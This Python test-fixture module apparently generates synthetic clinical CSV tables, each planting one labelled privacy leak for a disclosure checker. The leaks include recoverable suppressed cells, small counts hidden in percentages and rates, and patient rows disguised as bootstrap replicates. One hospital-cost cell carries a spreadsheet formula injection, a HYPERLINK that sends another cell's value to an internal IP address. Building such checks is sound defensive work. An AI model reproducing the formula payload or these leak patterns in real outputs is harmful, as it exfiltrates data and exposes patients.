"""Tables in CSV with one leak each."""

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs10.parts import ipp, table, text


def write(shelf: Shelf) -> None:
    unsafe(shelf)
    disguised(shelf)


def unsafe(shelf: Shelf) -> None:
    text(
        shelf.unsafe(
            "csv/chutes_medicaments.csv",
            "a suppressed cell comes back from the total of its row and the other cells",
            "row Neuroleptiques: 63 - 31 - 26 = 6",
            "Chutes à l'hôpital selon la classe médicamenteuse et la gravité ; les effectifs inférieurs à 10 ont été masqués",
            "1 904 patients de gériatrie, 421 chutes",
        ),
        """
        classe;chutes_sans_blessure;blessure_legere;fracture;total
        Benzodiazépines;88;51;14;153
        Antidépresseurs;64;37;12;113
        Neuroleptiques;31;26;<10;63
        Opioïdes;39;41;12;92
        """,
    )
    text(
        shelf.unsafe(
            "csv/stata_tabstat.csv",
            "minimum and maximum of persons' values",
            "columns min and max",
            "tabstat of baseline characteristics, exported from Stata",
            "864 adults admitted to the psychiatric emergency unit",
        ),
        """
        variable,N,mean,sd,p25,p50,p75,min,max
        age,864,41.7,15.2,29,40,53,18,87
        phq9,864,16.2,5.1,13,17,20,2,27
        gad7,864,12.4,4.6,9,13,16,1,21
        length_of_stay_h,864,19.3,11.8,9.5,17.0,26.0,0.4,96.5
        previous_admissions,864,1.9,2.6,0,1,3,0,31
        """,
    )
    stream = shelf.random("survfit")
    rows: list[list[object]] = [
        ["time", "n.risk", "n.event", "n.censor", "estimate", "std.error", "conf.high", "conf.low"]
    ]
    risk, estimate, day = 148, 1.0, 0
    while risk > 40:
        day += stream.randrange(3, 21)
        events, censored = stream.choice([(1, 0), (1, 0), (0, 1), (2, 0), (1, 1)])
        estimate *= 1 - events / risk
        rows.append(
            [
                day,
                risk,
                events,
                censored,
                f"{estimate:.4f}",
                f"{0.02 + 0.0004 * day:.4f}",
                f"{min(1, estimate + 0.05):.4f}",
                f"{estimate - 0.06:.4f}",
            ]
        )
        risk -= events + censored
    table(
        shelf.unsafe(
            "csv/survfit_tidy.csv",
            "one row per death: single-event steps with their day",
            "n.event 1 and n.censor 1 in nearly every row",
            "tidy(survfit(Surv(time, death) ~ 1)) after TAVI",
            "148 patients after transcatheter aortic valve implantation",
        ),
        rows,
    )
    text(
        shelf.unsafe(
            "csv/mortalite_services_pct.csv",
            "a percentage of a small ward gives a count below 10 back",
            "Pneumologie: 7,3 % of 41 is 3 deaths",
            "Mortalité hospitalière par service, séjours COVID-19 de la 5e vague",
            "1 288 patients hospitalisés pour COVID-19",
        ),
        """
        service;patients;age_moyen;deces_pct;passage_rea_pct;duree_mediane_j
        Médecine interne;412;68,1;9,7;12,4;8
        Gériatrie aiguë;377;84,9;24,4;5,0;11
        Maladies infectieuses;301;61,0;6,0;18,6;7
        Pneumologie;41;63,5;7,3;31,7;9
        Médecine polyvalente;157;70,2;12,1;9,6;8
        """,
    )
    text(
        shelf.unsafe(
            "csv/agranulocytosis_rate.csv",
            "a rate per 10,000 with its denominator is a count of 4 persons",
            "clozapine: 12.9 per 10,000 of 3,100",
            "Incidence of severe neutropenia per 10,000 treated, by antipsychotic",
            "28,450 patients with a first antipsychotic prescription",
        ),
        """
        drug,treated,neutropenia_per_10000,diabetes_per_10000,median_dose_mg
        olanzapine,9200,19.6,271.7,10
        risperidone,8800,14.8,155.7,3
        quetiapine,7350,17.7,197.3,200
        clozapine,3100,12.9,383.9,250
        """,
    )
    text(
        shelf.unsafe(
            "csv/couts_ghm.csv",
            "a cell that starts a formula runs in the reader's spreadsheet",
            "row 6, column commentaire: =HYPERLINK",
            "Coûts moyens par GHM, étude nationale des coûts locale",
            "8 912 séjours de chirurgie orthopédique",
        ),
        """
        ghm;libelle;sejours;cout_moyen_eur;cout_median_eur;dms_jours;commentaire
        08C471;Prothèse de hanche pour traumatisme, niveau 1;812;7421;7100;6,1;
        08C241;Prothèse de genou, niveau 1;1204;6890;6712;4,8;
        08C481;Prothèse de hanche hors traumatisme, niveau 1;1655;6534;6401;4,2;
        08C491;Interventions majeures sur la hanche, niveau 1;644;6210;5980;7,0;
        08C321;Ablation de matériel, niveau 1;902;1893;1702;1,6;"=HYPERLINK(""http://10.2.14.7/q?c=""&D5,""voir ENC"")"
        08C441;Autres interventions sur le genou, niveau 1;3695;2311;2204;1,9;
        """,
    )


def disguised(shelf: Shelf) -> None:
    stream = shelf.random("bootstrap")
    rows: list[list[object]] = [["replicate", "theta_a", "theta_s", "theta_b", "theta_c", "theta_y"]]
    for number in range(1, 341):
        rows.append(
            [
                number,
                stream.randrange(52, 89),
                stream.randrange(2),
                f"{stream.gauss(27, 4):.1f}",
                stream.randrange(48, 190),
                int(stream.random() < 0.2),
            ]
        )
    table(
        shelf.unsafe(
            "csv/bootstrap_theta.csv",
            "patients' rows renamed as bootstrap replicates: age, sex, BMI, creatinine, outcome",
            "every row",
            "Bootstrap replicates of the parameters of the contrast nephropathy model",
            "340 patients after contrast CT",
        ),
        rows,
    )
    rows = [["cluster", "icc_component", "variance", "weight", "shrinkage"]]
    for _ in range(64):
        rows.append(
            [
                ipp(stream),
                f"{stream.gauss(0, 0.3):.4f}",
                f"{stream.uniform(0.01, 0.2):.4f}",
                f"{stream.uniform(0.4, 1):.3f}",
                f"{stream.uniform(0.1, 0.9):.3f}",
            ]
        )
    table(
        shelf.unsafe(
            "csv/random_effects_ranef.csv",
            "patient numbers (IPP) as cluster labels, a random effect for each person",
            "column cluster",
            "ranef() of the mixed model of glycaemia, levels of the grouping factor",
            "64 patients with telemonitored insulin titration, 9,120 readings",
        ),
        rows,
    )
